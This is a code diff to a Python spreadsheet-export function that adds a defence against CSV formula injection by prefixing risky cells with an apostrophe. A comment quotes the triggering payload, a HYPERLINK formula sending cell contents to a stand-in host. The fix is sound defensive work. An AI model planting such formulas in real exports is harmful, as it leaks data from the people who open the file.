@@ -83,6 +83,17 @@ SPREADSHEET = ["case", "kind", "name", "school", "seq", "trigger", "source", "de
 assert set(COLUMNS) <= set(SPREADSHEET)
 
 
+# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): a candidate named
+# `=HYPERLINK("http://x.example/?"&A1,"click")` ran as one when the export was opened (issue 24).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(cell: str) -> str:
+    """A cell a spreadsheet shows as the text it is: one that would start a formula is prefixed
+    with `'`, which the spreadsheet hides and which tells a reader of the file that it was."""
+    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
+
+
 def spreadsheet(db: Database, chosen: ExportFilter, calendar: WorkingCalendar,
                 now: str, batch: int = 2000) -> Iterator[list[str]]:
     """The header and one row per admitted entry, read in batches (names and timers fetched
@@ -120,8 +131,8 @@ def spreadsheet(db: Database, chosen: ExportFilter, calendar: WorkingCalendar,
                 ended = [queries.timer_json(t) for t in case_timers if t.ended_seq == entry.seq]
                 row["deadlines"] = deadline_column(entry.seq, queries.log_json(entry), ended,
                                                    now) if ended else ""
-            yield [json.dumps(row[c], ensure_ascii=False, sort_keys=True)
-                   if c in ("data", "engine") else "" if row[c] is None else str(row[c])
+            yield [inert(json.dumps(row[c], ensure_ascii=False, sort_keys=True)
+                         if c in ("data", "engine") else "" if row[c] is None else str(row[c]))
                    for c in SPREADSHEET]
         pending.clear()
 
